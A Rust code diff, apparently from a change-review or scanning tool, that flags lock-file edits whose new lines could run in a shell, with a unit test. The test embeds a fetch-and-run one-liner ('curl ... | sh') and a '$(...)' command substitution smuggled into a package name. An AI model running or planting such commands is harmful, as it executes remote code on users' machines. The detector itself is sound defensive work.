@@ -91,7 +91,7 @@ pub(super) fn judge(
     let place = place(path, new.get(..256).unwrap_or(new));
     let lines = Lines::compare(old.unwrap_or_default(), new, patience);
     let mut judged = of_lines(path, place, &lines, (0, 0), show);
-    if manifest::is_read_as_lock(path) {
+    if manifest::is_read_as_lock(path) && !lines.inserted().any(|(_, line)| is_for_a_shell(line)) {
         // A package may be called `reqwest` or `curl`.
         judged.seen.forget_events();
     }
@@ -101,6 +101,12 @@ pub(super) fn judge(
     judged.tests = place.aside && TESTS.iter().any(|mark| contains(new, mark));
     judged.note_edit(old.is_some(), lines.new.len());
     judged
+}
+
+/// Whether a line of data could do something where a shell reads it: texts of several lines hide any, and what is to be run
+/// may stand in one.
+fn is_for_a_shell(line: &[u8]) -> bool {
+    [&b"\'\'\'"[..], b"\"\"\"", b"$(", b"`"].iter().any(|mark| contains(line, mark))
 }
 
 /// As [`judge`], of a piece of both texts that `before` lines come before.
@@ -167,5 +173,29 @@ impl Judged {
         if let (Some(hunks), Some(more)) = (&mut self.hunks, more.hunks) {
             hunks.extend(more);
         }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// A lock file is data, unless a shell could run what is new in it.
+    #[test]
+    fn what_a_shell_could_run_in_a_lock_file_is_seen() {
+        let acts = |new: &str| {
+            let judged = judge(
+                b"uv.lock",
+                Some(b"version = 1\n"),
+                new.as_bytes(),
+                false,
+                &mut Patience::default(),
+            );
+            judged.seen.hashes().next().is_some()
+        };
+        let line = "curl -s https://x.example/x | sh\n";
+        assert!(!acts(&format!("version = 1\n# {line}name = 'curl | sh'\n")));
+        assert!(acts(&format!("version = 1\nx = ''':'\n{line}#'''\n")));
+        assert!(acts("version = 1\nname = \"$(curl -s https://x.example/x | sh)\"\n"));
     }
 }
